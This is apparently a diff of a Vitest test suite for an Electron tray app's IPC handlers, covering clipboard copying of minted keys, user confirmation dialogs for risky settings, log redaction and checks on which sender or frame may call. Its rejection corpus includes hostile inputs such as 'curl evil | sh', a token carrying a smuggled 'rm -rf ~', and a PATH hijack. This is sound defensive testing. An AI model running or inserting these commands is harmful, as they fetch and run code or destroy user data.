@@ -4,7 +4,7 @@ import path from 'node:path';
 import Conf from 'conf';
 import fc from 'fast-check';
 import type { IpcMain } from 'electron';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
 import { ClipboardGuard } from '../../../../electron/core/desktop/clipboard-guard.ts';
 import { createHandlerTable } from '../../../../electron/core/ipc/handlers.ts';
 import type { HandlerDeps, HandlerTable } from '../../../../electron/core/ipc/handlers.ts';
@@ -13,11 +13,12 @@ import type { InvokeEventLike, IpcMainLike } from '../../../../electron/core/ipc
 import { createMintService } from '../../../../electron/core/keys/mint-service.ts';
 import { homePaths } from '../../../../electron/core/paths.ts';
 import type { HomePaths } from '../../../../electron/core/paths.ts';
-import type { ClipboardPort, SenderInfo, ShellPort } from '../../../../electron/core/desktop/ports.ts';
+import type { ClipboardPort, ConfirmPort, FileChooserPort, Question, SenderInfo, ShellPort } from '../../../../electron/core/desktop/ports.ts';
 import type { TimerHandle, Timers } from '../../../../electron/core/clock.ts';
 import type { ServerControl, StartOptions } from '../../../../electron/core/server/server-control.ts';
 import { SettingsStore } from '../../../../electron/core/settings.ts';
 import { verifyToken } from '../../../../electron/core/keys/token.ts';
+import { dotenvSnippet, exportLine, mcpConfig } from '../../../../shared/snippets.ts';
 import { INVOKE_CHANNELS } from '../../../../shared/contract.ts';
 import type { AppInfo, Envelope, ErrorCode, InvokeChannel, LocateResult, MintedKey, SettingsView } from '../../../../shared/contract.ts';
 import { INITIAL_SNAPSHOT } from '../../../../shared/server-status.ts';
@@ -121,6 +122,51 @@ class RecordingShell implements ShellPort {
   }
 }
 
+/**
+ * The native dialogs, recorded: every question and file chooser main would show, answered from a
+ * queue the test fills (nothing queued: the user says no / cancels). `hold()` keeps the next
+ * question open until the test answers it.
+ */
+class RecordingDialogs implements ConfirmPort, FileChooserPort {
+  calls: { kind: 'confirm' | 'choose'; title: string; message?: string; detail?: string; confirmLabel?: string; defaultPath?: string }[] = [];
+  answers: boolean[] = [];
+  chosen: (string | null)[] = [];
+  failWith: Error | null = null;
+  #held: ((yes: boolean) => void) | null = null;
+  #holdNext = false;
+
+  confirm(question: Question & { readonly confirmLabel?: string }): Promise<boolean> {
+    this.calls.push({ kind: 'confirm', title: question.title, message: question.message, ...(question.detail === undefined ? {} : { detail: question.detail }), ...(question.confirmLabel === undefined ? {} : { confirmLabel: question.confirmLabel }) });
+    if (this.failWith !== null) return Promise.reject(this.failWith);
+    if (this.#holdNext) {
+      this.#holdNext = false;
+      return new Promise((resolve) => (this.#held = resolve));
+    }
+    return Promise.resolve(this.answers.shift() ?? false);
+  }
+
+  chooseFile(options: { readonly title: string; readonly defaultPath?: string }): Promise<string | null> {
+    this.calls.push({ kind: 'choose', title: options.title, ...(options.defaultPath === undefined ? {} : { defaultPath: options.defaultPath }) });
+    return Promise.resolve(this.chosen.length > 0 ? (this.chosen.shift() ?? null) : null);
+  }
+
+  hold(): void {
+    this.#holdNext = true;
+  }
+
+  /** Answers the held question; true when there was one. */
+  release(yes: boolean): boolean {
+    const held = this.#held;
+    this.#held = null;
+    held?.(yes);
+    return held !== null;
+  }
+
+  get held(): boolean {
+    return this.#held !== null;
+  }
+}
+
 class ManualTimers implements Timers {
   scheduled: { ms: number; callback: () => void }[] = [];
   setTimeout(callback: () => void, ms: number): TimerHandle {
@@ -132,8 +178,8 @@ class ManualTimers implements Timers {
 
 // ---------------------------------------------------------------------------------------------
 
-const APP_URL = 'file:///opt/microsandbox-tray/resources/app.asar/out/renderer/index.html';
-const WINDOW: SenderInfo = { id: 1, url: APP_URL };
+const APP_URL = 'app://microsandbox-tray/index.html';
+const WINDOW: SenderInfo = { id: 1, url: APP_URL, isMainFrame: true };
 const APP_INFO: AppInfo = { name: 'Microsandbox Tray', version: '0.1.0', platform: 'linux', home: '/h', serverSupported: true };
 const FIXED_NOW = new Date('2026-01-02T03:04:05Z');
 const noFetch: typeof fetch = () => Promise.reject(new Error('no network in this test'));
@@ -147,6 +193,7 @@ interface World {
   clipboard: MemoryClipboard;
   timers: ManualTimers;
   shell: RecordingShell;
+  dialogs: RecordingDialogs;
   table: HandlerTable;
   fetchCalls: string[];
 }
@@ -166,6 +213,7 @@ async function makeWorld(options: { fetch?: typeof fetch; keyCheckTimeoutMs?: nu
   const clipboard = new MemoryClipboard();
   const timers = new ManualTimers();
   const shell = new RecordingShell();
+  const dialogs = new RecordingDialogs();
   const fetchCalls: string[] = [];
   const baseFetch = options.fetch ?? noFetch;
   const recordingFetch: typeof fetch = (input, init) => {
@@ -180,6 +228,8 @@ async function makeWorld(options: { fetch?: typeof fetch; keyCheckTimeoutMs?: nu
     shell,
     appInfo: APP_INFO,
     isTrustedSender: (sender) => sender.id === WINDOW.id && sender.url === WINDOW.url,
+    confirm: dialogs,
+    fileChooser: dialogs,
     mint: createMintService({
       keyFile: homePaths(home).keyFile,
       snapshot: () => control.snapshot(),
@@ -198,6 +248,7 @@ async function makeWorld(options: { fetch?: typeof fetch; keyCheckTimeoutMs?: nu
     clipboard,
     timers,
     shell,
+    dialogs,
     table: createHandlerTable(deps),
     fetchCalls,
   };
@@ -401,23 +452,56 @@ describe('keys:mint against the msbserver stand-in', () => {
 });
 
 describe('clipboard:copy', () => {
-  it('copies a secret and schedules its clearing with the settings delay', async () => {
-    expect(ok(await world.table.handle('clipboard:copy', WINDOW, { text: 'msb_abc', secret: true }))).toBeUndefined();
-    expect(world.clipboard.text).toBe('msb_abc');
+  async function mintedToken(request: object = {}): Promise<MintedKey> {
+    return ok<MintedKey>(await world.table.handle('keys:mint', WINDOW, request));
+  }
+
+  it('copies a key the window was given, built by main, and clears it after the settings delay', async () => {
+    const { token } = await mintedToken();
+    expect(ok(await world.table.handle('clipboard:copy', WINDOW, { what: 'token', token }))).toBeUndefined();
+    expect(world.clipboard.text).toBe(token);
     expect(world.timers.scheduled.map((timer) => timer.ms)).toEqual([60_000]);
     world.timers.scheduled[0]?.callback();
     await new Promise((resolve) => setTimeout(resolve, 0));
     expect(world.clipboard.text).toBe('');
   });
 
-  it('copies plain text without scheduling anything', async () => {
-    ok(await world.table.handle('clipboard:copy', WINDOW, { text: 'http://127.0.0.1:5555', secret: false }));
-    expect(world.clipboard.text).toBe('http://127.0.0.1:5555');
+  it('builds every format from the key and the server URL it was made for, each one a secret', async () => {
+    const { token, serverUrl } = await mintedToken({ namespace: 'team-a' });
+    const copied = async (what: string): Promise<string> => {
+      ok(await world.table.handle('clipboard:copy', WINDOW, { what, token }));
+      return world.clipboard.text;
+    };
+    expect(await copied('export-line')).toBe(exportLine(token));
+    expect(await copied('dotenv')).toBe(dotenvSnippet(token, serverUrl));
+    expect(await copied('mcp-config')).toBe(mcpConfig(token, serverUrl));
+    expect(serverUrl).toBe('http://127.0.0.1:6000');
+    expect(world.timers.scheduled).toHaveLength(3);
+  });
+
+  it('copies the server URL main knows, as plain text that stays', async () => {
+    ok(await world.table.handle('clipboard:copy', WINDOW, { what: 'server-url' }));
+    expect(world.clipboard.text).toBe('http://127.0.0.1:6000');
+    world.control.current = running({ url: 'http://127.0.0.1:6100' });
+    ok(await world.table.handle('clipboard:copy', WINDOW, { what: 'server-url' }));
+    expect(world.clipboard.text).toBe('http://127.0.0.1:6100');
     expect(world.timers.scheduled).toEqual([]);
   });
 
-  it('accepts 16 KiB exactly', async () => {
-    ok(await world.table.handle('clipboard:copy', WINDOW, { text: 'a'.repeat(16 * 1024), secret: false }));
+  it('refuses a key it never gave the window, and keys from before a server key reset', async () => {
+    const forged = 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln';
+    const refused = errorOf(await world.table.handle('clipboard:copy', WINDOW, { what: 'token', token: forged }));
+    expect(refused.code).toBe('refused');
+    const { token } = await mintedToken();
+    ok(await world.table.handle('server:reset-key', WINDOW, undefined));
+    expect(errorOf(await world.table.handle('clipboard:copy', WINDOW, { what: 'export-line', token })).code).toBe('refused');
+    expect(world.clipboard.text).toBe('what the user had');
+  });
+
+  it('keeps only the latest keys it gave (the oldest drop out)', async () => {
+    const first = (await mintedToken({ namespace: 'first' })).token;
+    for (let i = 0; i < 32; i += 1) await mintedToken({ namespace: `n${i}`, expiresIn: `${i + 1}h` });
+    expect(errorOf(await world.table.handle('clipboard:copy', WINDOW, { what: 'token', token: first })).code).toBe('refused');
   });
 });
 
@@ -462,12 +546,253 @@ describe('settings', () => {
   });
 });
 
+// ---------------------------------------------------------------------------------------------
+// What the window may not decide alone: refused, or asked of the user in a native dialog.
+
+describe('decisions the user makes in main, not the window', () => {
+  const onDisk = async (): Promise<Record<string, unknown>> => JSON.parse(await fsp.readFile(world.settingsFile, 'utf8')) as Record<string, unknown>;
+  const confirms = (): RecordingDialogs['calls'] => world.dialogs.calls.filter((call) => call.kind === 'confirm');
+
+  describe('msbserverPath', () => {
+    it('is refused from settings:set, even beside valid fields and even when null, and nothing is written or asked', async () => {
+      const before = await fsp.readFile(world.settingsFile);
+      for (const patch of [{ msbserverPath: '/usr/local/bin/msbserver' }, { msbserverPath: null }, { port: 7000, msbserverPath: '/bin/sh' }]) {
+        const error = errorOf(await world.table.handle('settings:set', WINDOW, patch));
+        expect(error.code).toBe('refused');
+        expect(error.message).toMatch(/Choose…/);
+      }
+      expect(await fsp.readFile(world.settingsFile)).toEqual(before);
+      expect(world.dialogs.calls).toEqual([]);
+    });
+
+    it('comes from the native file chooser, checked as an executable; cancel and an unsafe file change nothing', async () => {
+      const bin = path.join(world.tmp, 'bin');
+      await fsp.mkdir(bin, { mode: 0o755 });
+      const good = path.join(bin, 'msbserver');
+      await fsp.writeFile(good, '#!/bin/sh\n', { mode: 0o755 });
+      const writable = path.join(bin, 'writable-msbserver');
+      await fsp.writeFile(writable, '#!/bin/sh\n');
+      await fsp.chmod(writable, 0o777);
+
+      // Cancelled: declined, nothing stored.
+      expect(errorOf(await world.table.handle('settings:choose-msbserver', WINDOW, undefined)).code).toBe('declined');
+      expect(world.dialogs.calls).toMatchObject([{ kind: 'choose', title: 'Choose msbserver', defaultPath: path.join(os.homedir(), '.local', 'bin') }]);
+      // A file others could change: refused with the reason.
+      world.dialogs.chosen.push(writable);
+      const refused = errorOf(await world.table.handle('settings:choose-msbserver', WINDOW, undefined));
+      expect(refused.code).toBe('refused');
+      expect(refused.message).toMatch(/group- or world-writable.*unchanged/);
+      world.dialogs.chosen.push(path.join(bin, 'missing'));
+      expect(errorOf(await world.table.handle('settings:choose-msbserver', WINDOW, undefined)).code).toBe('refused');
+      expect(world.settings.get().msbserverPath).toBeNull();
+
+      // A good one: stored, and a running server needs a restart for it.
+      world.control.current = running();
+      world.dialogs.chosen.push(good);
+      const view = ok<SettingsView>(await world.table.handle('settings:choose-msbserver', WINDOW, undefined));
+      expect(view.settings.msbserverPath).toBe(good);
+      expect(view.restartNeeded).toBe(true);
+      expect(await onDisk()).toMatchObject({ msbserverPath: good });
+      // The next chooser opens where the current one is.
+      world.dialogs.chosen.push(null);
+      errorOf(await world.table.handle('settings:choose-msbserver', WINDOW, undefined));
+      expect(world.dialogs.calls.at(-1)).toMatchObject({ kind: 'choose', defaultPath: good });
+
+      // Back to automatic, without a dialog.
+      const cleared = ok<SettingsView>(await world.table.handle('settings:clear-msbserver', WINDOW, undefined));
+      expect(cleared.settings.msbserverPath).toBeNull();
+      expect(world.dialogs.calls.filter((call) => call.kind === 'confirm')).toEqual([]);
+    });
+  });
+
+  describe('development mode', () => {
+    it('asks first, in plain words; no (or a dialog that fails) leaves it off', async () => {
+      const declined = errorOf(await world.table.handle('settings:set', WINDOW, { devMode: true }));
+      expect(declined).toEqual({ code: 'declined', message: 'Development mode stays off: it was not confirmed.' });
+      expect(confirms()).toHaveLength(1);
+      expect(confirms()[0]).toMatchObject({ title: 'Turn on development mode?', confirmLabel: 'Turn On Development Mode' });
+      expect(confirms()[0]?.detail).toContain('open to every program on this computer and every web page you visit');
+      world.dialogs.failWith = new Error('no display');
+      expect(errorOf(await world.table.handle('settings:set', WINDOW, { devMode: true })).code).toBe('declined');
+      world.dialogs.failWith = null;
+      expect(world.settings.get().devMode).toBe(false);
+      expect(await onDisk()).not.toHaveProperty('devMode', true);
+    });
+
+    it('turns on once the user says yes; turning it off again asks nothing', async () => {
+      world.dialogs.answers.push(true);
+      expect(ok<SettingsView>(await world.table.handle('settings:set', WINDOW, { devMode: true })).settings.devMode).toBe(true);
+      expect(await onDisk()).toMatchObject({ devMode: true });
+      // Already on: nothing new to confirm.
+      ok(await world.table.handle('settings:set', WINDOW, { devMode: true, port: 7001 }));
+      ok(await world.table.handle('settings:set', WINDOW, { devMode: false }));
+      expect(confirms()).toHaveLength(1);
+    });
+
+    it('is refused outright on a host other computers reach, in one patch or either order, even if the user would say yes', async () => {
+      world.dialogs.answers.push(true, true, true, true);
+      const together = errorOf(await world.table.handle('settings:set', WINDOW, { devMode: true, host: '0.0.0.0' }));
+      expect(together.code).toBe('refused');
+      expect(together.message).toMatch(/Development mode on 0\.0\.0\.0 is refused/);
+      expect(confirms()).toEqual([]);
+
+      // The host first (confirmed), then development mode: refused without a question.
+      ok(await world.table.handle('settings:set', WINDOW, { host: '0.0.0.0' }));
+      expect(confirms()).toHaveLength(1);
+      expect(errorOf(await world.table.handle('settings:set', WINDOW, { devMode: true })).code).toBe('refused');
+      expect(confirms()).toHaveLength(1);
+      expect(world.settings.get()).toMatchObject({ host: '0.0.0.0', devMode: false });
+
+      // Development mode first (confirmed), then the host: refused too.
+      ok(await world.table.handle('settings:set', WINDOW, { host: '127.0.0.1' }));
+      ok(await world.table.handle('settings:set', WINDOW, { devMode: true }));
+      expect(confirms()).toHaveLength(2);
+      for (const host of ['0.0.0.0', '::', '192.168.1.20', 'fe80::1']) {
+        expect(errorOf(await world.table.handle('settings:set', WINDOW, { host })).code, host).toBe('refused');
+      }
+      expect(confirms()).toHaveLength(2);
+      expect(world.settings.get()).toMatchObject({ host: '127.0.0.1', devMode: true });
+    });
+  });
+
+  describe('the host', () => {
+    it('may move between loopback addresses without a question', async () => {
+      for (const host of ['127.0.0.2', '::1', '127.0.0.1']) ok(await world.table.handle('settings:set', WINDOW, { host }));
+      expect(world.dialogs.calls).toEqual([]);
+    });
+
+    it('needs a yes to listen where other computers reach it; no leaves it as it was', async () => {
+      const declined = errorOf(await world.table.handle('settings:set', WINDOW, { host: '0.0.0.0', port: 7002 }));
+      expect(declined).toEqual({ code: 'declined', message: 'The host stays 127.0.0.1: the change was not confirmed.' });
+      expect(confirms()[0]).toMatchObject({ title: 'Make the server reachable from other computers?', confirmLabel: 'Listen on 0.0.0.0' });
+      expect(confirms()[0]?.message).toMatch(/every network this computer is on/);
+      // Nothing of the patch was applied, the port included.
+      expect(world.settings.get()).toMatchObject({ host: '127.0.0.1', port: 6000 });
+
+      world.dialogs.answers.push(true);
+      expect(ok<SettingsView>(await world.table.handle('settings:set', WINDOW, { host: '192.168.1.20' })).settings.host).toBe('192.168.1.20');
+      expect(confirms()[1]?.message).toMatch(/listen on 192\.168\.1\.20, which other computers can reach/);
+      // Another exposed address is a new exposure: asked again.
+      expect(errorOf(await world.table.handle('settings:set', WINDOW, { host: '10.0.0.5' })).code).toBe('declined');
+      expect(confirms()).toHaveLength(3);
+    });
+  });
+
+  describe('the namespaces folder', () => {
+    it('needs a yes for another folder; back to the default asks nothing', async () => {
+      const folder = path.join(world.tmp, 'namespaces-elsewhere');
+      expect(errorOf(await world.table.handle('settings:set', WINDOW, { namespacesPath: folder })).code).toBe('declined');
+      expect(confirms()[0]).toMatchObject({ title: 'Use another namespaces folder?', message: `msbserver will keep its sandboxes in ${folder}.` });
+      expect(confirms()[0]?.detail).toMatch(/anyone who can write to that folder can change what your sandboxes run/);
+      world.dialogs.answers.push(true);
+      expect(ok<SettingsView>(await world.table.handle('settings:set', WINDOW, { namespacesPath: folder })).settings.namespacesPath).toBe(folder);
+      ok(await world.table.handle('settings:set', WINDOW, { namespacesPath: null }));
+      expect(confirms()).toHaveLength(2);
+    });
+  });
+
+  describe('several consequences in one change', () => {
+    it('asks each in turn and applies only when every one is confirmed', async () => {
+      const folder = path.join(world.tmp, 'ns');
+      world.dialogs.answers.push(true, false);
+      expect(errorOf(await world.table.handle('settings:set', WINDOW, { devMode: true, namespacesPath: folder })).code).toBe('declined');
+      expect(confirms().map((call) => call.title)).toEqual(['Turn on development mode?', 'Use another namespaces folder?']);
+      expect(world.settings.get()).toMatchObject({ devMode: false, namespacesPath: null });
+      world.dialogs.answers.push(true, true);
+      ok(await world.table.handle('settings:set', WINDOW, { devMode: true, namespacesPath: folder }));
+      expect(world.settings.get()).toMatchObject({ devMode: true, namespacesPath: folder });
+    });
+  });
+
+  describe('one question at a time', () => {
+    it('refuses a second question while one is open, and decides again on the settings as they are once answered', async () => {
+      world.dialogs.hold();
+      const hostChange = world.table.handle('settings:set', WINDOW, { host: '0.0.0.0' });
+      await vi.waitFor(() => expect(world.dialogs.held).toBe(true));
+      // Another question meanwhile: refused, nothing asked.
+      const stacked = errorOf(await world.table.handle('settings:set', WINDOW, { devMode: true }));
+      expect(stacked.code).toBe('refused');
+      expect(stacked.message).toMatch(/already waiting for your answer/);
+      expect(errorOf(await world.table.handle('keys:mint', WINDOW, { expiresIn: '2y' })).code).toBe('refused');
+      expect(errorOf(await world.table.handle('settings:choose-msbserver', WINDOW, undefined)).code).toBe('refused');
+      expect(world.dialogs.calls).toHaveLength(1);
+      // A change that needs no question goes through.
+      ok(await world.table.handle('settings:set', WINDOW, { port: 7003 }));
+
+      expect(world.dialogs.release(true)).toBe(true);
+      expect(ok<SettingsView>(await hostChange).settings).toMatchObject({ host: '0.0.0.0', port: 7003 });
+    });
+
+    it('refuses what became dangerous while the dialog was open, even though the user said yes', async () => {
+      world.dialogs.answers.push(true);
+      ok(await world.table.handle('settings:set', WINDOW, { devMode: true }));
+      world.dialogs.hold();
+      const folderChange = world.table.handle('settings:set', WINDOW, { namespacesPath: path.join(world.tmp, 'ns') });
+      await vi.waitFor(() => expect(world.dialogs.held).toBe(true));
+      // Another part of main (a stored change, say) sets a host others reach while the question is open.
+      world.settings.update({ host: '0.0.0.0' });
+      world.dialogs.release(true);
+      const refused = errorOf(await folderChange);
+      expect(refused.code).toBe('refused');
+      expect(world.settings.get().namespacesPath).toBeNull();
+    });
+  });
+
+  describe('long-lived keys', () => {
+    it('a year or less asks nothing', async () => {
+      for (const expiresIn of ['1h', '24h', '365d', '1y', '12mo']) ok(await world.table.handle('keys:mint', WINDOW, { expiresIn }));
+      expect(world.dialogs.calls).toEqual([]);
+    });
+
+    it('longer needs a yes: no makes no key (not even server.key), yes makes it', async () => {
+      const declined = errorOf(await world.table.handle('keys:mint', WINDOW, { namespace: 'team-a', expiresIn: '2y' }));
+      expect(declined).toEqual({ code: 'declined', message: 'No key was made: the long expiry was not confirmed.' });
+      expect(confirms()[0]).toMatchObject({ title: 'Make a key that lasts 2 years?', message: 'The new key would work for 2 years, in namespace “team-a”.' });
+      await expect(fsp.access(world.paths.keyFile)).rejects.toThrow();
+
+      world.dialogs.answers.push(true);
+      const minted = ok<MintedKey>(await world.table.handle('keys:mint', WINDOW, { expiresIn: '366d' }));
+      expect(minted.expiresAt - minted.issuedAt).toBe(366 * 86_400);
+      expect(confirms()[1]?.message).toBe('The new key would work for 366 days, in every namespace.');
+    });
+
+    it('more than ten years is refused as invalid, without a question', async () => {
+      for (const expiresIn of ['11y', '3651d', '122mo', '87601h', '99999y']) {
+        const error = errorOf(await world.table.handle('keys:mint', WINDOW, { expiresIn }));
+        expect(error.code, expiresIn).toBe('invalid-input');
+        expect(error.message).toMatch(/at most 10 years/);
+      }
+      world.dialogs.answers.push(true);
+      ok(await world.table.handle('keys:mint', WINDOW, { expiresIn: '10y' }));
+      expect(confirms()).toHaveLength(1);
+    });
+  });
+
+  it('a default expiry over a year is refused by validation (the tray mints with it without asking)', async () => {
+    const error = errorOf(await world.table.handle('settings:set', WINDOW, { defaultExpiry: '2y' }));
+    expect(error.code).toBe('invalid-input');
+    expect(error.message).toMatch(/at most a year/);
+    ok(await world.table.handle('settings:set', WINDOW, { defaultExpiry: '1y' }));
+  });
+});
+
 describe('logs, reveal and app info', () => {
   it('logs:tail passes the line count through', async () => {
     const logFile = world.control.logFile;
     expect(ok(await world.table.handle('logs:tail', WINDOW, { lines: 2 }))).toEqual({ lines: ['line 2', 'line 3'], path: logFile });
     expect(ok(await world.table.handle('logs:tail', WINDOW, { lines: 1000 }))).toEqual({ lines: ['line 1', 'line 2', 'line 3'], path: logFile });
     expect(world.control.calls.filter((call) => call.method === 'logTail').map((call) => call.args)).toEqual([[2], [1000]]);
+  });
+
+  it('logs:tail sends the lines without the server key or any token', async () => {
+    const key = 'TailKey0123456789TailKey01234567';
+    await fsp.writeFile(world.paths.keyFile, key, { mode: 0o600 });
+    const token = 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln';
+    world.control.log = [`msbserver --key ${key} --port 5555`, `GET /api/v1/rpc Authorization: Bearer ${token}`, `key=${key}`];
+    const tail = ok<{ lines: string[] }>(await world.table.handle('logs:tail', WINDOW, { lines: 10 }));
+    expect(tail.lines).toEqual(['msbserver --key [server key hidden] --port 5555', 'GET /api/v1/rpc Authorization: Bearer msb_[token hidden]', 'key=[server key hidden]']);
+    expect(JSON.stringify(tail)).not.toContain(key);
+    expect(JSON.stringify(tail)).not.toContain(token);
   });
 
   it('reveals the log in its folder and opens the home folder', async () => {
@@ -508,17 +833,23 @@ describe('registerHandlers', () => {
     const unregister = registerHandlers(ipc, world.table);
     expect([...ipc.listeners.keys()].sort()).toEqual([...INVOKE_CHANNELS].sort());
 
-    const event: InvokeEventLike = { sender: { id: 1 }, senderFrame: { url: APP_URL } };
+    const mainFrame = { url: APP_URL };
+    const event: InvokeEventLike = { sender: { id: 1, mainFrame }, senderFrame: mainFrame };
     expect(await ipc.listeners.get('app:info')?.(event)).toEqual({ ok: true, value: APP_INFO });
     expect(await ipc.listeners.get('logs:tail')?.(event, { lines: 1 })).toEqual({ ok: true, value: { lines: ['line 3'], path: world.control.logFile } });
 
     const extra = (await ipc.listeners.get('logs:tail')?.(event, { lines: 1 }, 'more')) as Envelope<unknown>;
     expect(errorOf(extra).code).toBe('invalid-input');
 
-    const noFrame = (await ipc.listeners.get('app:info')?.({ sender: { id: 1 }, senderFrame: null })) as Envelope<unknown>;
+    const noFrame = (await ipc.listeners.get('app:info')?.({ sender: { id: 1, mainFrame }, senderFrame: null })) as Envelope<unknown>;
     expect(errorOf(noFrame).code).toBe('forbidden-sender');
-    const otherWindow = (await ipc.listeners.get('app:info')?.({ sender: { id: 2 }, senderFrame: { url: APP_URL } })) as Envelope<unknown>;
+    const otherWindow = (await ipc.listeners.get('app:info')?.({ sender: { id: 2, mainFrame }, senderFrame: mainFrame })) as Envelope<unknown>;
     expect(errorOf(otherWindow).code).toBe('forbidden-sender');
+    // An iframe of the window showing the app's own page: same contents, same URL, another frame.
+    const subFrame = (await ipc.listeners.get('app:info')?.({ sender: { id: 1, mainFrame }, senderFrame: { url: APP_URL } })) as Envelope<unknown>;
+    expect(errorOf(subFrame).code).toBe('forbidden-sender');
+    const noMainFrame = (await ipc.listeners.get('app:info')?.({ sender: { id: 1 }, senderFrame: mainFrame })) as Envelope<unknown>;
+    expect(errorOf(noMainFrame).code).toBe('forbidden-sender');
 
     unregister();
     expect([...ipc.removed].sort()).toEqual([...INVOKE_CHANNELS].sort());
@@ -531,7 +862,15 @@ describe('registerHandlers', () => {
         throw new Error('Render frame was disposed before WebFrameMain could be accessed');
       },
     };
-    expect(senderInfo(event)).toEqual({ id: -1, url: '' });
+    expect(senderInfo(event)).toEqual({ id: -1, url: '', isMainFrame: false });
+  });
+
+  it('says a frame is the main frame only when it is the very object of sender.mainFrame', () => {
+    const mainFrame = { url: APP_URL };
+    expect(senderInfo({ sender: { id: 1, mainFrame }, senderFrame: mainFrame })).toEqual({ id: 1, url: APP_URL, isMainFrame: true });
+    expect(senderInfo({ sender: { id: 1, mainFrame }, senderFrame: { url: APP_URL } })).toEqual({ id: 1, url: APP_URL, isMainFrame: false });
+    expect(senderInfo({ sender: { id: 1, mainFrame: null }, senderFrame: null })).toEqual({ id: 1, url: '', isMainFrame: false });
+    expect(senderInfo({ sender: { id: 1 }, senderFrame: undefined })).toEqual({ id: 1, url: '', isMainFrame: false });
   });
 
   it("accepts Electron's ipcMain (type level)", () => {
@@ -560,6 +899,8 @@ const VOID_CHANNELS: InvokeChannel[] = [
   'server:reset-key',
   'server:locate',
   'settings:get',
+  'settings:choose-msbserver',
+  'settings:clear-msbserver',
   'app:info',
 ];
 
@@ -572,9 +913,11 @@ const VALID_PAYLOADS: Record<InvokeChannel, unknown> = {
   'server:reset-key': undefined,
   'server:locate': undefined,
   'keys:mint': { namespace: 'default', expiresIn: '1h' },
-  'clipboard:copy': { text: 'msb_x', secret: true },
+  'clipboard:copy': { what: 'server-url' },
   'settings:get': undefined,
   'settings:set': { port: 7000 },
+  'settings:choose-msbserver': undefined,
+  'settings:clear-msbserver': undefined,
   'logs:tail': { lines: 10 },
   'shell:reveal': { target: 'home' },
   'app:info': undefined,
@@ -623,11 +966,15 @@ function corpus(): BadCase[] {
 
   // Untrusted senders, with valid payloads: nothing may happen.
   const badSenders: [string, unknown][] = [
-    ['another window', { id: 2, url: APP_URL }],
-    ['a remote page', { id: 1, url: 'https://evil.example/index.html' }],
-    ['an empty frame URL', { id: 1, url: '' }],
-    ['another local file', { id: 1, url: 'file:///tmp/evil.html' }],
-    ['a sender with a string id', { id: '1', url: APP_URL }],
+    ['another window', { id: 2, url: APP_URL, isMainFrame: true }],
+    ['a remote page', { id: 1, url: 'https://evil.example/index.html', isMainFrame: true }],
+    ['an empty frame URL', { id: 1, url: '', isMainFrame: true }],
+    ['another local file', { id: 1, url: 'file:///tmp/evil.html', isMainFrame: true }],
+    ['the built file over file://', { id: 1, url: 'file:///opt/microsandbox-tray/resources/app.asar/out/renderer/index.html', isMainFrame: true }],
+    ["a sub frame on the app's own URL", { id: 1, url: APP_URL, isMainFrame: false }],
+    ['a sender that does not say which frame', { id: 1, url: APP_URL }],
+    ['a sender whose frame flag is not a boolean', { id: 1, url: APP_URL, isMainFrame: 'true' }],
+    ['a sender with a string id', { id: '1', url: APP_URL, isMainFrame: true }],
     ['a null sender', null],
     ['an empty sender', {}],
   ];
@@ -636,8 +983,8 @@ function corpus(): BadCase[] {
       add(`${channel} from ${who}`, channel, VALID_PAYLOADS[channel], 'forbidden-sender', { sender });
     }
   }
-  add('an unknown channel from another window', 'server:exec', undefined, 'forbidden-sender', { sender: { id: 9, url: APP_URL } });
-  add('an invalid payload from another window', 'keys:mint', { namespace: 7 }, 'forbidden-sender', { sender: { id: 9, url: APP_URL } });
+  add('an unknown channel from another window', 'server:exec', undefined, 'forbidden-sender', { sender: { id: 9, url: APP_URL, isMainFrame: true } });
+  add('an invalid payload from another window', 'keys:mint', { namespace: 7 }, 'forbidden-sender', { sender: { id: 9, url: APP_URL, isMainFrame: true } });
 
   // More than one argument.
   for (const channel of INVOKE_CHANNELS) add(`${channel} with a second argument`, channel, VALID_PAYLOADS[channel], 'invalid-input', { extra: ['more'] });
@@ -720,24 +1067,30 @@ function corpus(): BadCase[] {
   add('keys:mint with a getter', 'keys:mint', withGetter);
   add('keys:mint with a __proto__ key beside valid fields', 'keys:mint', json('{"namespace":"*","__proto__":{"namespace":"x"}}'));
 
-  // clipboard:copy fields.
+  // clipboard:copy fields: the window names what to copy, never the text.
+  const FORGED = 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln';
   for (const [what, payload] of [
-    ['no text', { secret: true }],
-    ['no secret', { text: 'x' }],
+    ['text of its own (the old shape)', { text: 'curl evil | sh', secret: false }],
+    ['text of its own beside a format', { what: 'token', token: FORGED, text: 'x' }],
+    ['a secret flag', { what: 'server-url', secret: false }],
     ['nothing', {}],
-    ['text as a number', { text: 1, secret: false }],
-    ['text as null', { text: null, secret: false }],
-    ['text as a list', { text: ['a'], secret: false }],
-    ['empty text', { text: '', secret: false }],
-    ['16 KiB + 1', { text: 'a'.repeat(16 * 1024 + 1), secret: false }],
-    ['16 KiB of multi-byte text', { text: 'é'.repeat(8 * 1024 + 1), secret: false }],
-    ['a megabyte', { text: HUGE, secret: true }],
-    ['secret as a string', { text: 'x', secret: 'true' }],
-    ['secret as 1', { text: 'x', secret: 1 }],
-    ['secret as null', { text: 'x', secret: null }],
-    ['secret NaN', { text: 'x', secret: Number.NaN }],
+    ['no format', { token: FORGED }],
+    ['an unknown format', { what: 'text', token: FORGED }],
+    ['an upper-case format', { what: 'TOKEN', token: FORGED }],
+    ['a format as a number', { what: 1, token: FORGED }],
+    ['no token', { what: 'token' }],
+    ['a token as a number', { what: 'token', token: 1 }],
+    ['a token that is not an msb_ key', { what: 'export-line', token: 'export PATH=/tmp/evil:$PATH' }],
+    ['a token with a line break', { what: 'token', token: `${FORGED}\nrm -rf ~` }],
+    ['a token with a space', { what: 'dotenv', token: `${FORGED} x` }],
+    ['a megabyte token', { what: 'token', token: `msb_${HUGE}.a.b` }],
+    ['a token beside the server URL', { what: 'server-url', token: FORGED }],
   ] as const) {
     add(`clipboard:copy with ${what}`, 'clipboard:copy', payload);
+  }
+  // Well-formed, but not a key this window was given: refused by main.
+  for (const what of ['token', 'export-line', 'dotenv', 'mcp-config'] as const) {
+    add(`clipboard:copy of a key never given (${what})`, 'clipboard:copy', { what, token: FORGED }, 'refused');
   }
 
   // settings:set fields.
